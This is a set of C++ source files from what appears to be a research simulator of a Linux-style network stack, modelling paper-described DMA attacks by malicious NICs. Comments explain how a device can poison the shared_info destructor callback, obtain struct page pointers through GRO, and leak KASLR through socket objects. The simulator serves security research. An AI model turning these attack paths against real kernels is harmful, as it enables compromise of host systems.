  // `num_queues` RX queues; the indirection table is seeded round-robin
  // (entry i -> queue i % num_queues), the reset state of real drivers.
  // The default key is the well-known Microsoft verification key, so hash
  // values are checkable against the RSS specification's test vectors.
  explicit Rss(uint32_t num_queues);
  Rss(uint32_t num_queues, const std::array<uint8_t, kKeyBytes>& key);

  // Toeplitz hash of the tuple (src ip, dst ip, src port, dst port), each
  // big-endian, exactly as the NDIS spec feeds them to the hash.
  uint32_t Hash(const FlowTuple& tuple) const;

  // The RX queue the device steers this flow to.
  uint32_t QueueFor(const FlowTuple& tuple) const {
    return table_[Hash(tuple) % kTableSize];
  }

  uint32_t num_queues() const { return num_queues_; }
  const std::array<uint8_t, kTableSize>& indirection_table() const { return table_; }

  // Raw Toeplitz over an arbitrary byte string (exposed for tests against
  // the published verification vectors).
  static uint32_t Toeplitz(std::span<const uint8_t> data,
                           const std::array<uint8_t, kKeyBytes>& key);

 private:
  uint32_t num_queues_;
  std::array<uint8_t, kKeyBytes> key_;
  std::array<uint8_t, kTableSize> table_;
};

}  // namespace spv::net

#endif  // SPV_NET_RSS_H_
