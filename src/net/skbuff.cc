#include "net/skbuff.h"

namespace spv::net {

SkbAllocator::SkbAllocator(dma::KernelMemory& kmem, slab::SlabAllocator& slab)
    : kmem_(kmem), slab_(slab) {}

void SkbAllocator::RegisterFragPool(CpuId cpu, slab::PageFragPool* pool) {
  frag_pools_[cpu.value] = pool;
}

slab::PageFragPool* SkbAllocator::frag_pool(CpuId cpu) {
  auto it = frag_pools_.find(cpu.value);
  return it == frag_pools_.end() ? nullptr : it->second;
}

Result<SkBuffPtr> SkbAllocator::NetdevAllocSkb(CpuId cpu, uint32_t len, std::string_view site) {
  slab::PageFragPool* pool = frag_pool(cpu);
  if (pool == nullptr) {
    return FailedPrecondition("no page_frag pool registered for cpu");
  }
  const uint64_t truesize = TruesizeFor(len);
  Result<Kva> head = pool->Alloc(truesize, kSmpCacheBytes, site);
  if (!head.ok()) {
    return head.status();
  }
  auto skb = std::make_unique<SkBuff>();
  skb->id = next_id_++;
  skb->head = *head;
  skb->data = *head + kNetSkbPad;
  skb->end = *head + SkbDataAlign(kNetSkbPad + len);
  skb->truesize = truesize;
  skb->linear = OwnedBuffer{*head, BufSource::kPageFrag, cpu};
  SharedInfoView shinfo{kmem_, skb->end};
  SPV_RETURN_IF_ERROR(shinfo.Initialize());
  return skb;
}

void SkbAllocator::set_damn_pool(slab::PageFragPool* pool) {
  damn_pool_ = pool;
  if (pool != nullptr) {
    RegisterFragPool(kDamnPoolCpu, pool);
  }
}

Result<SkBuffPtr> SkbAllocator::AllocSkb(uint32_t len, std::string_view site) {
  const uint64_t truesize = TruesizeFor(len);
  Result<Kva> head = InvalidArgument("unset");
  OwnedBuffer ownership;
  if (damn_pool_ != nullptr) {
    // DAMN path: network buffers come from the dedicated I/O region, never
    // from the shared kmalloc caches.
    head = damn_pool_->Alloc(truesize, kSmpCacheBytes, site);
    ownership = OwnedBuffer{Kva{}, BufSource::kPageFrag, kDamnPoolCpu};
  } else {
    head = slab_.Kmalloc(truesize, site);
    ownership = OwnedBuffer{Kva{}, BufSource::kKmalloc, CpuId{0}};
  }
  if (!head.ok()) {
    return head.status();
  }
  ownership.kva = *head;
  auto skb = std::make_unique<SkBuff>();
  skb->id = next_id_++;
  skb->head = *head;
  skb->data = *head + kNetSkbPad;
  skb->end = *head + SkbDataAlign(kNetSkbPad + len);
  skb->truesize = truesize;
  skb->linear = ownership;
  SharedInfoView shinfo{kmem_, skb->end};
  SPV_RETURN_IF_ERROR(shinfo.Initialize());
  return skb;
}

Result<SkBuffPtr> SkbAllocator::BuildSkb(Kva head, uint32_t frag_size, OwnedBuffer ownership) {
  if (frag_size < SkbDataAlign(SharedInfoLayout::kSize) + PacketHeader::kSize) {
    return InvalidArgument("build_skb buffer too small for shared_info");
  }
  auto skb = std::make_unique<SkBuff>();
  skb->id = next_id_++;
  skb->head = head;
  skb->data = head;
  skb->end = head + (frag_size - SkbDataAlign(SharedInfoLayout::kSize));
  skb->truesize = frag_size;
  skb->linear = ownership;
  SharedInfoView shinfo{kmem_, skb->end};
  SPV_RETURN_IF_ERROR(shinfo.Initialize());
  return skb;
}

Status SkbAllocator::AddFrag(SkBuff& skb, const FragRef& frag,
                             std::optional<OwnedBuffer> buffer) {
  SharedInfoView shinfo{kmem_, skb.shared_info()};
  Result<uint8_t> nr = shinfo.nr_frags();
  if (!nr.ok()) {
    return nr.status();
  }
  if (*nr >= kMaxSkbFrags) {
    return ResourceExhausted("skb frags full");
  }
  SPV_RETURN_IF_ERROR(shinfo.set_frag(*nr, frag));
  SPV_RETURN_IF_ERROR(shinfo.set_nr_frags(*nr + 1));
  skb.len += frag.size;
  skb.data_len += frag.size;
  if (buffer.has_value()) {
    skb.frag_buffers.push_back(*buffer);
  }
  return OkStatus();
}

Result<SkBuffPtr> SkbAllocator::CloneSkb(const SkBuff& skb) {
  SharedInfoView shinfo{kmem_, skb.shared_info()};
  Result<uint32_t> dataref = shinfo.dataref();
  if (!dataref.ok()) {
    return dataref.status();
  }
  SPV_RETURN_IF_ERROR(shinfo.set_dataref(*dataref + 1));
  auto clone = std::make_unique<SkBuff>();
  *clone = SkBuff{};
  clone->id = next_id_++;
  clone->head = skb.head;
  clone->data = skb.data;
  clone->end = skb.end;
  clone->len = skb.len;
  clone->data_len = skb.data_len;
  clone->truesize = skb.truesize;
  clone->header = skb.header;
  clone->header_parsed = skb.header_parsed;
  // The clone shares the data but owns nothing: ownership stays with
  // whichever skb drops the last dataref (handled in FreeSkb).
  clone->linear = skb.linear;
  clone->frag_buffers = skb.frag_buffers;
  return clone;
}

Status SkbAllocator::FreeSkb(SkBuffPtr skb, CallbackInvoker* invoker) {
  if (!skb) {
    return OkStatus();
  }
  SharedInfoView shinfo{kmem_, skb->shared_info()};
  // Shared data (skb_clone): only the last reference releases and fires the
  // destructor. dataref lives in device-visible memory, like everything else
  // in shared_info.
  Result<uint32_t> dataref = shinfo.dataref();
  if (dataref.ok() && *dataref > 1) {
    SPV_RETURN_IF_ERROR(shinfo.set_dataref(*dataref - 1));
    ++skbs_freed_;
    return OkStatus();
  }
  // Step (d) of Figure 4: on release, the kernel consults destructor_arg in
  // the (device-exposed!) shared_info and calls through it.
  Result<uint64_t> destructor_arg = shinfo.destructor_arg();
  if (destructor_arg.ok() && *destructor_arg != 0 && invoker != nullptr) {
    UbufInfoView ubuf{kmem_, Kva{*destructor_arg}};
    Result<uint64_t> callback = ubuf.callback();
    if (callback.ok()) {
      // The callback result does not abort the free path (the kernel has no
      // idea the pointer was poisoned); faults are recorded by the invoker.
      (void)invoker->InvokeCallback(Kva{*callback}, Kva{*destructor_arg});
    }
  }
  SPV_RETURN_IF_ERROR(ReleaseBuffer(skb->linear));
  for (const OwnedBuffer& buffer : skb->frag_buffers) {
    SPV_RETURN_IF_ERROR(ReleaseBuffer(buffer));
  }
  ++skbs_freed_;
  return OkStatus();
}

Status SkbAllocator::ReleaseBuffer(const OwnedBuffer& buffer) {
  switch (buffer.source) {
    case BufSource::kPageFrag: {
      slab::PageFragPool* pool = frag_pool(buffer.cpu);
      if (pool == nullptr) {
        return Internal("page_frag buffer with unknown pool");
      }
      return pool->Free(buffer.kva);
    }
    case BufSource::kKmalloc:
      return slab_.Kfree(buffer.kva);
    case BufSource::kExternal:
      return OkStatus();  // caller-managed
  }
  return Internal("unknown buffer source");
}

}  // namespace spv::net
