// Interface between a NIC driver and the device it programs.
//
// The driver tells the device which IOVAs to use (descriptor posting); the
// device performs DMA through the IOMMU only. This is the paper's threat
// model made structural: everything the device learns arrives through these
// notifications or through memory it can legitimately DMA-read.

#ifndef SPV_NET_NIC_DEVICE_MODEL_H_
#define SPV_NET_NIC_DEVICE_MODEL_H_

#include <cstdint>
#include <vector>

#include "base/types.h"

namespace spv::net {

struct RxPostedDescriptor {
  uint32_t queue = 0;  // which RX queue the slot belongs to
  uint32_t index = 0;
  Iova iova;          // where the device should DMA-write the packet
  uint32_t buf_len = 0;
};

struct TxPostedDescriptor {
  uint32_t queue = 0;  // which TX queue the slot belongs to
  uint32_t index = 0;
  Iova linear_iova;
  uint32_t linear_len = 0;
  std::vector<Iova> frag_iovas;
  std::vector<uint32_t> frag_lens;
};

class NicDeviceModel {
 public:
  virtual ~NicDeviceModel() = default;

  virtual void OnRxPosted(const RxPostedDescriptor& descriptor) = 0;
  virtual void OnTxPosted(const TxPostedDescriptor& descriptor) = 0;

  // Fired inside the driver's RX completion path *after* sk_buff construction
  // but *before* dma_unmap, on drivers with the i40e-like ordering (§5.2.2
  // path (i)). Models the race the device wins on real hardware.
  virtual void OnRxCompleting(uint32_t index) { (void)index; }

  // Queue-aware variant the multi-queue driver actually calls; the default
  // forwards to the legacy single-queue hook so existing device models see
  // the same callbacks they always did.
  virtual void OnRxCompleting(uint32_t queue, uint32_t index) {
    (void)queue;
    OnRxCompleting(index);
  }
};

}  // namespace spv::net

#endif  // SPV_NET_NIC_DEVICE_MODEL_H_
