#include "net/rss.h"

namespace spv::net {

namespace {

// The verification key from the NDIS RSS specification; every real driver
// ships it in its selftests.
constexpr std::array<uint8_t, Rss::kKeyBytes> kDefaultKey = {
    0x6d, 0x5a, 0x56, 0xda, 0x25, 0x5b, 0x0e, 0xc2, 0x41, 0x67,
    0x25, 0x3d, 0x43, 0xa3, 0x8f, 0xb0, 0xd0, 0xca, 0x2b, 0xcb,
    0xae, 0x7b, 0x30, 0xb4, 0x77, 0xcb, 0x2d, 0xa3, 0x80, 0x30,
    0xf2, 0x0c, 0x6a, 0x42, 0xb7, 0x3b, 0xbe, 0xac, 0x01, 0xfa,
};

}  // namespace

Rss::Rss(uint32_t num_queues) : Rss(num_queues, kDefaultKey) {}

Rss::Rss(uint32_t num_queues, const std::array<uint8_t, kKeyBytes>& key)
    : num_queues_(num_queues == 0 ? 1 : num_queues), key_(key) {
  for (size_t i = 0; i < kTableSize; ++i) {
    table_[i] = static_cast<uint8_t>(i % num_queues_);
  }
}

uint32_t Rss::Toeplitz(std::span<const uint8_t> data,
                       const std::array<uint8_t, kKeyBytes>& key) {
  // Classic bit-serial formulation: for every set input bit, XOR in the
  // 32-bit window of the key starting at that bit position.
  uint32_t hash = 0;
  uint32_t window = (uint32_t{key[0]} << 24) | (uint32_t{key[1]} << 16) |
                    (uint32_t{key[2]} << 8) | uint32_t{key[3]};
  for (size_t i = 0; i < data.size(); ++i) {
    for (int b = 0; b < 8; ++b) {
      if (data[i] & (0x80u >> b)) {
        hash ^= window;
      }
      window <<= 1;
      if (i + 4 < key.size() && (key[i + 4] & (0x80u >> b))) {
        window |= 1;
      }
    }
  }
  return hash;
}

uint32_t Rss::Hash(const FlowTuple& tuple) const {
  // src ip | dst ip | src port | dst port, each big-endian (network order),
  // the NDIS input layout for IPv4 + TCP.
  std::array<uint8_t, 12> input;
  auto put32 = [&](size_t at, uint32_t v) {
    input[at + 0] = static_cast<uint8_t>(v >> 24);
    input[at + 1] = static_cast<uint8_t>(v >> 16);
    input[at + 2] = static_cast<uint8_t>(v >> 8);
    input[at + 3] = static_cast<uint8_t>(v);
  };
  put32(0, tuple.src_ip);
  put32(4, tuple.dst_ip);
  input[8] = static_cast<uint8_t>(tuple.src_port >> 8);
  input[9] = static_cast<uint8_t>(tuple.src_port);
  input[10] = static_cast<uint8_t>(tuple.dst_port >> 8);
  input[11] = static_cast<uint8_t>(tuple.dst_port);
  return Toeplitz(input, key_);
}

}  // namespace spv::net
