// Byte-exact in-memory layouts for the network-stack structures that live
// *inside DMA-visible buffers* (§5.1, Figure 4).
//
// Linux separates sk_buff metadata (never mapped) from the data buffer — but
// skb_shared_info is always allocated at the tail of the data buffer, so it
// is always mapped with the packet's permissions. We therefore serialize
// skb_shared_info (and the ubuf_info it points to) into simulated physical
// memory at fixed offsets, where a device can corrupt them byte by byte.
//
// Layout (64-bit little-endian, mirrors Linux 5.0 field order):
//
//   struct skb_shared_info {
//     offset  0: u8 nr_frags; u8 tx_flags; u16 gso_size; u16 gso_segs; u16 gso_type;
//     offset  8: u64 frag_list;        // sk_buff* (we store an skb id or 0)
//     offset 16: u64 hwtstamps;
//     offset 24: u32 tskey; u32 dataref;
//     offset 32: u64 destructor_arg;   // struct ubuf_info*  <-- THE callback path
//     offset 40: skb_frag_t frags[17]; // 16 bytes each
//   };                                  // total 40 + 17*16 = 312 bytes
//
//   struct skb_frag_t { u64 page;  // struct page* (vmemmap KVA)
//                       u32 page_offset; u32 size; };
//
//   struct ubuf_info { u64 callback;   // void (*)(ubuf_info*, bool)
//                      u64 ctx; u64 desc; u64 refcnt; };   // 32 bytes

#ifndef SPV_NET_LAYOUTS_H_
#define SPV_NET_LAYOUTS_H_

#include <cstdint>

#include "base/align.h"
#include "base/status.h"
#include "base/types.h"
#include "dma/kernel_memory.h"

namespace spv::net {

inline constexpr uint64_t kMaxSkbFrags = 17;
inline constexpr uint64_t kSmpCacheBytes = 64;
inline constexpr uint64_t kNetSkbPad = 64;  // NET_SKB_PAD

// SKB_DATA_ALIGN
constexpr uint64_t SkbDataAlign(uint64_t size) { return AlignUp(size, kSmpCacheBytes); }

struct SharedInfoLayout {
  static constexpr uint64_t kNrFrags = 0;        // u8
  static constexpr uint64_t kTxFlags = 1;        // u8
  static constexpr uint64_t kGsoSize = 2;        // u16
  static constexpr uint64_t kGsoSegs = 4;        // u16
  static constexpr uint64_t kGsoType = 6;        // u16
  static constexpr uint64_t kFragList = 8;       // u64
  static constexpr uint64_t kHwtstamps = 16;     // u64
  static constexpr uint64_t kTskey = 24;         // u32
  static constexpr uint64_t kDataref = 28;       // u32
  static constexpr uint64_t kDestructorArg = 32; // u64
  static constexpr uint64_t kFrags = 40;         // skb_frag_t[17]
  static constexpr uint64_t kFragStride = 16;
  static constexpr uint64_t kFragPage = 0;       // u64 within a frag
  static constexpr uint64_t kFragPageOffset = 8; // u32
  static constexpr uint64_t kFragSize = 12;      // u32
  static constexpr uint64_t kSize = kFrags + kMaxSkbFrags * kFragStride;  // 312
};

struct UbufInfoLayout {
  static constexpr uint64_t kCallback = 0;  // u64 function pointer
  static constexpr uint64_t kCtx = 8;       // u64
  static constexpr uint64_t kDesc = 16;     // u64
  static constexpr uint64_t kRefcnt = 24;   // u64
  static constexpr uint64_t kSize = 32;
};

struct FragRef {
  Kva struct_page;      // vmemmap KVA of the page's struct page
  uint32_t page_offset;
  uint32_t size;
};

// Typed accessor over a skb_shared_info that lives at `base` in simulated
// memory. All accesses flow through KernelMemory, so they fire the CPU-access
// hooks like real instrumented kernel code.
class SharedInfoView {
 public:
  SharedInfoView(dma::KernelMemory& kmem, Kva base) : kmem_(kmem), base_(base) {}

  Kva base() const { return base_; }

  Status Initialize();  // zero the structure (as __build_skb_around does)

  Result<uint8_t> nr_frags() const { return kmem_.ReadU8(base_ + SharedInfoLayout::kNrFrags); }
  Status set_nr_frags(uint8_t value) {
    return kmem_.WriteU8(base_ + SharedInfoLayout::kNrFrags, value);
  }

  // destructor_arg's offset is per-boot when struct-layout randomization is
  // on (paper footnote 2); the kernel-side accessor always knows it.
  uint64_t destructor_arg_offset() const {
    return kmem_.layout().shinfo_destructor_offset();
  }
  Result<uint64_t> destructor_arg() const {
    return kmem_.ReadU64(base_ + destructor_arg_offset());
  }
  Status set_destructor_arg(Kva value) {
    return kmem_.WriteU64(base_ + destructor_arg_offset(), value.value);
  }

  Result<uint32_t> dataref() const { return kmem_.ReadU32(base_ + SharedInfoLayout::kDataref); }
  Status set_dataref(uint32_t value) {
    return kmem_.WriteU32(base_ + SharedInfoLayout::kDataref, value);
  }

  Result<FragRef> frag(uint8_t index) const;
  Status set_frag(uint8_t index, const FragRef& frag);

  Result<uint16_t> gso_size() const { return kmem_.ReadU16(base_ + SharedInfoLayout::kGsoSize); }
  Status set_gso_size(uint16_t value) {
    return kmem_.WriteU16(base_ + SharedInfoLayout::kGsoSize, value);
  }

 private:
  dma::KernelMemory& kmem_;
  Kva base_;
};

// Typed accessor over a ubuf_info at `base`.
class UbufInfoView {
 public:
  UbufInfoView(dma::KernelMemory& kmem, Kva base) : kmem_(kmem), base_(base) {}

  Kva base() const { return base_; }

  Result<uint64_t> callback() const { return kmem_.ReadU64(base_ + UbufInfoLayout::kCallback); }
  Status set_callback(Kva value) {
    return kmem_.WriteU64(base_ + UbufInfoLayout::kCallback, value.value);
  }
  Result<uint64_t> ctx() const { return kmem_.ReadU64(base_ + UbufInfoLayout::kCtx); }
  Status set_ctx(uint64_t value) { return kmem_.WriteU64(base_ + UbufInfoLayout::kCtx, value); }

 private:
  dma::KernelMemory& kmem_;
  Kva base_;
};

// On-wire packet header our simulated stack parses (stands in for
// Ethernet+IP+TCP/UDP; 24 bytes at the start of the linear data).
struct PacketHeader {
  static constexpr uint64_t kSrcIp = 0;    // u32
  static constexpr uint64_t kDstIp = 4;    // u32
  static constexpr uint64_t kSrcPort = 8;  // u16
  static constexpr uint64_t kDstPort = 10; // u16
  static constexpr uint64_t kProto = 12;   // u8 (6=TCP, 17=UDP)
  static constexpr uint64_t kFlags = 13;   // u8
  static constexpr uint64_t kLen = 14;     // u16 payload length
  static constexpr uint64_t kSeq = 16;     // u32
  static constexpr uint64_t kSize = 24;

  uint32_t src_ip = 0;
  uint32_t dst_ip = 0;
  uint16_t src_port = 0;
  uint16_t dst_port = 0;
  uint8_t proto = 0;
  uint8_t flags = 0;
  uint16_t payload_len = 0;
  uint32_t seq = 0;
};

inline constexpr uint8_t kProtoTcp = 6;
inline constexpr uint8_t kProtoUdp = 17;

Status WritePacketHeader(dma::KernelMemory& kmem, Kva at, const PacketHeader& header);
Result<PacketHeader> ReadPacketHeader(dma::KernelMemory& kmem, Kva at);

}  // namespace spv::net

#endif  // SPV_NET_LAYOUTS_H_
