// Generic Receive Offload (§5.5, Figure 9).
//
// GRO converts multiple *linear* sk_buffs of one TCP stream into a single
// sk_buff with fragments: the head keeps its linear part, each subsequent
// segment's payload is attached as a frag referencing the segment's data page
// (struct page pointer + offset + length) and the segment's buffer ownership
// moves to the head. This is precisely the machinery the Forward-Thinking
// attack uses to get struct page pointers written into a device-readable
// shared_info.

#ifndef SPV_NET_GRO_H_
#define SPV_NET_GRO_H_

#include <cstdint>
#include <map>
#include <optional>
#include <vector>

#include "base/status.h"
#include "base/types.h"
#include "dma/kernel_memory.h"
#include "net/skbuff.h"

namespace spv::net {

struct FlowKey {
  uint32_t src_ip;
  uint32_t dst_ip;
  uint16_t src_port;
  uint16_t dst_port;

  auto operator<=>(const FlowKey&) const = default;
};

class GroEngine {
 public:
  GroEngine(dma::KernelMemory& kmem, SkbAllocator& skb_alloc)
      : kmem_(kmem), skb_alloc_(skb_alloc) {}

  // napi_gro_receive: consumes `skb`; returns an aggregated skb when a batch
  // completes (frags full or non-mergeable packet), nullptr while coalescing.
  // Non-TCP packets pass through untouched.
  Result<SkBuffPtr> Receive(SkBuffPtr skb);

  // End of NAPI poll: releases all held flows.
  std::vector<SkBuffPtr> FlushAll();

  uint64_t merged_segments() const { return merged_segments_; }
  size_t held_flows() const { return held_.size(); }

 private:
  Status MergeIntoHead(SkBuff& head, SkBuffPtr segment);

  dma::KernelMemory& kmem_;
  SkbAllocator& skb_alloc_;
  std::map<FlowKey, SkBuffPtr> held_;
  uint64_t merged_segments_ = 0;
};

}  // namespace spv::net

#endif  // SPV_NET_GRO_H_
