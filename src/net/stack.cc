#include "net/stack.h"

#include "mem/kernel_symbols.h"

namespace spv::net {

namespace {
// Modelled struct sock size: lands in the kmalloc-1024 class, the same class
// small TX data buffers come from — which is what co-locates sockets with
// I/O pages (type (d)).
constexpr uint64_t kSockObjectBytes = 680;
constexpr uint64_t kSkNetOffset = 8;  // sk->sk_net position within the object

// Stack milestones share one shape: a kind + packet length + free-form site.
void EmitStackEvent(telemetry::Hub& hub, telemetry::EventKind kind, uint64_t len,
                    const void* origin, std::string site) {
  if (!hub.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = kind;
  event.severity = telemetry::Severity::kInfo;
  event.len = len;
  event.origin = origin;
  event.site = std::move(site);
  hub.Publish(std::move(event));
}

}  // namespace

NetworkStack::NetworkStack(dma::KernelMemory& kmem, slab::SlabAllocator& slab,
                           SkbAllocator& skb_alloc, Config config)
    : kmem_(kmem),
      slab_(slab),
      skb_alloc_(skb_alloc),
      config_(config),
      gro_(kmem, skb_alloc),
      init_net_(kmem.layout().SymbolKva(mem::kSymInitNet)) {}

Result<Kva> NetworkStack::CreateSocket(uint16_t port, bool echo) {
  if (sockets_.contains(port)) {
    return AlreadyExists("port already bound");
  }
  Result<Kva> object = slab_.Kmalloc(kSockObjectBytes, "sock_alloc_inode+0x4f/0x120");
  if (!object.ok()) {
    return object.status();
  }
  // sk->sk_net = &init_net — the pointer §2.4's scan looks for.
  SPV_RETURN_IF_ERROR(kmem_.WriteU64(*object + kSkNetOffset, init_net_.value));
  // sk->sk_node list head, self-initialized: a direct-map pointer whose
  // upper bits reveal page_offset_base (1 GiB alignment, §2.4).
  SPV_RETURN_IF_ERROR(kmem_.WriteU64(*object + 16, (*object + 16).value));
  sockets_[port] = Socket{*object, echo};
  return *object;
}

Status NetworkStack::NapiGroReceive(SkBuffPtr skb) {
  trace::ScopedSpan span(tracer_, "stack.rx");
  Result<SkBuffPtr> out = gro_.Receive(std::move(skb));
  if (!out.ok()) {
    return out.status();
  }
  if (*out) {
    return Deliver(std::move(*out));
  }
  return OkStatus();
}

Status NetworkStack::NapiComplete() {
  for (SkBuffPtr& skb : gro_.FlushAll()) {
    SPV_RETURN_IF_ERROR(Deliver(std::move(skb)));
  }
  return OkStatus();
}

Status NetworkStack::Deliver(SkBuffPtr skb) {
  telemetry::Hub& hub = slab_.telemetry();
  if (!skb->header_parsed) {
    ++stats_.rx_dropped;
    Drop(hub, skb->len, "unparseable header");
    return FreeSkb(std::move(skb));
  }
  // A header claiming more payload than the skb holds is device-originated
  // garbage (truncated frame, corrupt length field): reading it would walk
  // past the buffer. GRO only grows skb->len, so a merged skb never trips it.
  if (PacketHeader::kSize + uint64_t{skb->header.payload_len} > skb->len) {
    ++stats_.rx_dropped;
    ++stats_.rx_length_errors;
    Drop(hub, skb->len, "payload_len over-claims skb length");
    if (hub.enabled()) {
      hub.counter("stack.rx_length_errors").Add();
    }
    return FreeSkb(std::move(skb));
  }
  if (skb->header.dst_ip == config_.local_ip) {
    auto it = sockets_.find(skb->header.dst_port);
    if (it == sockets_.end()) {
      ++stats_.rx_dropped;
      Drop(hub, skb->len, "no socket bound");
      return FreeSkb(std::move(skb));
    }
    ++stats_.rx_delivered;
    EmitStackEvent(hub, telemetry::EventKind::kStackDeliver, skb->len, this,
                   "local delivery");
    if (hub.enabled()) {
      hub.counter("stack.rx_delivered").Add();
    }
    if (it->second.echo) {
      SPV_RETURN_IF_ERROR(Echo(*skb));
      ++stats_.echoed;
      EmitStackEvent(hub, telemetry::EventKind::kStackEcho, skb->len, this, "echo service");
      if (hub.enabled()) {
        hub.counter("stack.echoed").Add();
      }
    }
    return FreeSkb(std::move(skb));
  }
  if (config_.forwarding_enabled && egress_ != nullptr) {
    return Forward(std::move(skb));
  }
  ++stats_.rx_dropped;
  Drop(hub, skb->len, "not local, forwarding off");
  return FreeSkb(std::move(skb));
}

void NetworkStack::Drop(telemetry::Hub& hub, uint64_t len, std::string reason) {
  EmitStackEvent(hub, telemetry::EventKind::kStackDrop, len, this, std::move(reason));
  if (hub.enabled()) {
    hub.counter("stack.rx_dropped").Add();
  }
}

void NetworkStack::Shed(uint64_t len, std::string_view path) {
  ++stats_.tx_shed;
  telemetry::Hub& hub = slab_.telemetry();
  EmitStackEvent(hub, telemetry::EventKind::kStackDrop, len, this,
                 std::string("egress revoked: ") + std::string(path));
  if (hub.enabled()) {
    hub.counter("stack.tx_shed").Add();
  }
}

Status NetworkStack::Forward(SkBuffPtr skb) {
  // ip_forward: the RX skb goes straight back out. Its shared_info — frags
  // filled by GRO, destructor_arg still device-reachable — is now mapped for
  // device READ by the egress driver.
  const uint64_t len = skb->len;
  Result<uint32_t> index = egress_->PostTx(std::move(skb));
  if (!index.ok()) {
    if (index.status().code() == StatusCode::kRevoked) {
      // The egress device is quarantined: shed the packet (PostTx already
      // freed the skb) and keep the RX path alive.
      Shed(len, "ip_forward");
      return OkStatus();
    }
    return index.status();
  }
  ++stats_.rx_forwarded;
  telemetry::Hub& hub = slab_.telemetry();
  EmitStackEvent(hub, telemetry::EventKind::kStackForward, 0, this, "ip_forward");
  if (hub.enabled()) {
    hub.counter("stack.rx_forwarded").Add();
  }
  return OkStatus();
}

Result<std::vector<uint8_t>> NetworkStack::ReadPayload(const SkBuff& skb) {
  std::vector<uint8_t> payload;
  const uint32_t linear_payload = skb.linear_len() - PacketHeader::kSize;
  payload.resize(linear_payload);
  SPV_RETURN_IF_ERROR(
      kmem_.Read(skb.data + PacketHeader::kSize, std::span<uint8_t>(payload)));

  SharedInfoView shinfo{kmem_, skb.shared_info()};
  Result<uint8_t> nr_frags = shinfo.nr_frags();
  if (!nr_frags.ok()) {
    return nr_frags.status();
  }
  for (uint8_t i = 0; i < *nr_frags; ++i) {
    Result<FragRef> frag = shinfo.frag(i);
    if (!frag.ok()) {
      return frag.status();
    }
    Result<Pfn> pfn = kmem_.layout().StructPageKvaToPfn(frag->struct_page);
    if (!pfn.ok()) {
      return pfn.status();
    }
    const Kva frag_kva =
        kmem_.layout().PhysToDirectMapKva(PhysAddr::FromPfn(*pfn, frag->page_offset));
    const size_t old_size = payload.size();
    payload.resize(old_size + frag->size);
    SPV_RETURN_IF_ERROR(kmem_.Read(
        frag_kva, std::span<uint8_t>(payload.data() + old_size, frag->size)));
  }
  return payload;
}

Status NetworkStack::Echo(const SkBuff& skb) {
  Result<std::vector<uint8_t>> payload = ReadPayload(skb);
  if (!payload.ok()) {
    return payload.status();
  }
  PacketHeader reply = skb.header;
  std::swap(reply.src_ip, reply.dst_ip);
  std::swap(reply.src_port, reply.dst_port);
  reply.payload_len = static_cast<uint16_t>(payload->size());
  return SendPacket(reply, *payload);
}

Status NetworkStack::SendPacket(const PacketHeader& header, std::span<const uint8_t> payload) {
  trace::ScopedSpan span(tracer_, "stack.tx");
  if (egress_ == nullptr) {
    return FailedPrecondition("no egress driver");
  }
  const bool use_frags = payload.size() > config_.linear_tx_threshold;
  const uint32_t linear_payload =
      use_frags ? 0 : static_cast<uint32_t>(payload.size());

  Result<SkBuffPtr> skb =
      skb_alloc_.AllocSkb(PacketHeader::kSize + linear_payload, "tcp_sendmsg+0x2d0/0x800");
  if (!skb.ok()) {
    return skb.status();
  }
  (*skb)->len = PacketHeader::kSize + linear_payload;
  (*skb)->header = header;
  (*skb)->header_parsed = true;
  SPV_RETURN_IF_ERROR(WritePacketHeader(kmem_, (*skb)->data, header));
  if (linear_payload > 0) {
    SPV_RETURN_IF_ERROR(
        kmem_.Write((*skb)->data + PacketHeader::kSize, payload.first(linear_payload)));
  }

  if (use_frags) {
    // sendmsg with a large payload: data lands in page-frag pages referenced
    // by frags[] — the exact shape of Figure 8. Under DAMN the pages come
    // from the dedicated I/O region instead.
    const bool damn = skb_alloc_.damn_pool() != nullptr;
    const CpuId frag_cpu = damn ? SkbAllocator::kDamnPoolCpu : CpuId{0};
    slab::PageFragPool* pool =
        damn ? skb_alloc_.damn_pool() : skb_alloc_.frag_pool(CpuId{0});
    if (pool == nullptr) {
      return FailedPrecondition("no page_frag pool for TX frags");
    }
    size_t done = 0;
    while (done < payload.size()) {
      const size_t chunk = std::min<size_t>(payload.size() - done, kPageSize / 2);
      Result<Kva> buf = pool->Alloc(chunk, kSmpCacheBytes, "skb_page_frag_refill");
      if (!buf.ok()) {
        return buf.status();
      }
      SPV_RETURN_IF_ERROR(kmem_.Write(*buf, payload.subspan(done, chunk)));
      Result<PhysAddr> phys = kmem_.layout().DirectMapKvaToPhys(*buf);
      if (!phys.ok()) {
        return phys.status();
      }
      FragRef frag{kmem_.layout().StructPageKva(phys->pfn()),
                   static_cast<uint32_t>(phys->page_offset()), static_cast<uint32_t>(chunk)};
      SPV_RETURN_IF_ERROR(skb_alloc_.AddFrag(
          **skb, frag, OwnedBuffer{*buf, BufSource::kPageFrag, frag_cpu}));
      done += chunk;
    }
  }

  Result<uint32_t> index = egress_->PostTx(std::move(*skb));
  if (!index.ok()) {
    if (index.status().code() == StatusCode::kRevoked) {
      Shed(payload.size(), "sendmsg");
      return OkStatus();
    }
    return index.status();
  }
  ++stats_.tx_sent;
  telemetry::Hub& hub = slab_.telemetry();
  EmitStackEvent(hub, telemetry::EventKind::kStackSend, payload.size(), this,
                 use_frags ? "sendmsg (frags)" : "sendmsg (linear)");
  if (hub.enabled()) {
    hub.counter("stack.tx_sent").Add();
  }
  return OkStatus();
}

Status NetworkStack::OnTxCompleted(uint32_t tx_index) {
  trace::ScopedSpan span(tracer_, "stack.tx_complete");
  if (egress_ == nullptr) {
    return FailedPrecondition("no egress driver");
  }
  Result<SkBuffPtr> skb = egress_->CompleteTx(tx_index);
  if (!skb.ok()) {
    return skb.status();
  }
  return FreeSkb(std::move(*skb));
}

Status NetworkStack::FreeSkb(SkBuffPtr skb) {
  return skb_alloc_.FreeSkb(std::move(skb), invoker_);
}

}  // namespace spv::net
