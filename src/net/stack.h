// The simulated network stack: socket delivery, echo services, GRO, and the
// packet-forwarding path.
//
// Models the specific OS behaviours the compound attacks lean on:
//   * socket objects are kmalloc'd and carry a pointer to init_net — the
//     KASLR-compromising leak of §2.4 (type (d) co-location with I/O pages);
//   * an echo-style userspace service copies attacker-controlled payloads
//     into TX buffers (Poisoned TX, §5.4 option 1);
//   * packet forwarding turns attacker-generated RX packets into TX packets,
//     with GRO filling frags[] with struct page pointers (Forward Thinking,
